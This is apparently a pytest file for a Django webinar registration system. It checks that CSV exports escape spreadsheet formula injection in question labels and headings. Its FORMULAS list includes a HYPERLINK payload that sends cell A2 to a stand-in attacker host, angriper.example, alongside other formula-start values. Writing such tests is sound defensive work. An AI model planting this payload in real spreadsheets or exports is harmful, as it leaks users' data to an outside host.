"""Every cell of the registrations CSV is formula-safe, the headings included (issue 11,
item 13): a question label is an organiser's text and becomes a column heading."""

import csv
import io

import pytest

from registrations.exports import csv_safe
from registrations.models import Question
from registrations.tests.factories import QuestionFactory, RegistrationFactory
from webinars.tests.factories import SessionFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://angriper.example/?d="&A2;"Klikk")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def _rows(client, session) -> list[list[str]]:
    response = client.get(f"/arbeidsrom/webinarer/{session.pk}/pameldinger.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_question_labels_in_the_heading_row_are_not_formulas(client, organiser_a, office_a):
    session = SessionFactory(organisation=office_a)
    for position, label in enumerate(FORMULAS):
        QuestionFactory(offering=session.offering, label=label, position=position)
    RegistrationFactory(session=session, name="Kari")
    client.force_login(organiser_a)
    headings, *rows = _rows(client, session)
    for label in FORMULAS:
        assert "'" + label in headings
    assert not [cell for row in [headings, *rows] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_english_label_is_made_safe_too(client, organiser_a, office_a):
    session = SessionFactory(organisation=office_a)
    QuestionFactory(offering=session.offering, label="Instrument", label_en="=1+1", kind=Question.Kind.TEXT)
    client.force_login(organiser_a)
    client.cookies["django_language"] = "en"
    headings = _rows(client, session)[0]
    assert "'=1+1" in headings and "=1+1" not in headings


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_safe_prefixes_every_formula_start(value):
    assert csv_safe(value) == "'" + value
